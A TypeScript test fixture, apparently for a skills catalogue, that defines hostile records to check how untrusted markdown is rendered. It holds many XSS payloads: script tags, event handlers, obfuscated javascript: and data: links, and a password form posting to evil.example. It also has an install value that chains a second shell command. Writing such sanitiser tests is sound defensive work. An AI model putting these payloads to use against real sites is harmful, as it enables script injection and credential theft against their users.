import { hostileText, LONG_WORDS, MARKERS } from './hostile-text.ts';
import type { SourceSkill } from './skill-source.ts';

const KIBIBYTE = 1_024;

/** Markdown that asks for what a page must not do. */
const FILE = `---
name: ${MARKERS.file}
description: <img src=x onerror=window.__pwned=1>
---

# ${MARKERS.file} <script>window.__pwned=1</script>

<script>window.__pwned=1</script>
<img src=x onerror="window.__pwned=1"> <svg onload="window.__pwned=1"></svg>
<iframe src="javascript:parent.__pwned=1"></iframe>
<style>body { display: none !important }</style>
<form action="https://evil.example"><input name="password"><button>Sign in</button></form>
<a href="javascript:window.__pwned=1" onclick="window.__pwned=1">raw link</a>

[script link](javascript:window.__pwned=1) [mixed case](JaVaScRiPt:window.__pwned=1) [tab](java&#9;script:window.__pwned=1)
[data link](data:text/html,<script>window.__pwned=1</script>) [vbscript](vbscript:x) <javascript:window.__pwned=1>
[reference][evil] ![image](https://pixel.example/a.png) ![data](data:image/svg+xml,<svg/onload=window.__pwned=1>)

[evil]: javascript:window.__pwned=1 "title"

\`\`\`html
<script>window.__pwned=1</script>
\`\`\`

| \u202Eheader | <img src=x onerror=window.__pwned=1> |
| --- | --- |
| \u001b[31mred\u0007 | line\u2028end |

${'> '.repeat(500)}deep
${'['.repeat(500)}

${'W'.repeat(100 * KIBIBYTE)}
`;

/** A record whose texts are all hostile. */
const HOSTILE_SKILL: SourceSkill = {
  id: 'hostile-skill',
  name: hostileText('skill', 200),
  description: hostileText('description', 8_000),
  category: hostileText('skill', 60),
  tags: [hostileText('tag', 60), 'fine'],
  author: hostileText('skill', 60),
  license: hostileText('skill', 60),
  version: hostileText('skill', 30),
  compatibility: hostileText('skill', 900),
  install: `npx skills add x; ${hostileText('skill', 500)}`,
  homepage: 'javascript:window.__pwned=1',
  file: FILE,
};

const word = LONG_WORDS.text('skill', 300);

/** A record whose texts are long words. */
export const LONG_WORD_SKILL: SourceSkill = {
  ...{ id: 'long-word-skill', name: word, category: word, author: word, license: word, version: word },
  ...{ compatibility: word, install: `npx skills add ${word}`, tags: [word.slice(0, 60), `${word.slice(0, 59)}x`] },
  description: LONG_WORDS.text('description', 300),
  homepage: `https://e2e.example/${word}`,
  file: `---\nname: ${word}\n---\n\n# ${word}\n\n- ${word} \`${word}\` [${word}](https://e2e.example/${word})\n\n> ${word}\n`,
};

/** Without a name and an id it is rejected, and shown as such. */
const REJECTED: SourceSkill = { description: hostileText('description', 500), file: '' };

/** A file of which more than a fifth is rejected would be refused as a whole. */
const OTHERS: readonly SourceSkill[] = Array.from({ length: 5 }, (_, at) => ({
  name: `harmless-${at}`,
  description: 'Does what it says. Use it for nothing else.',
  file: '',
}));

export const HOSTILE_SKILLS: readonly SourceSkill[] = [HOSTILE_SKILL, REJECTED, ...OTHERS];
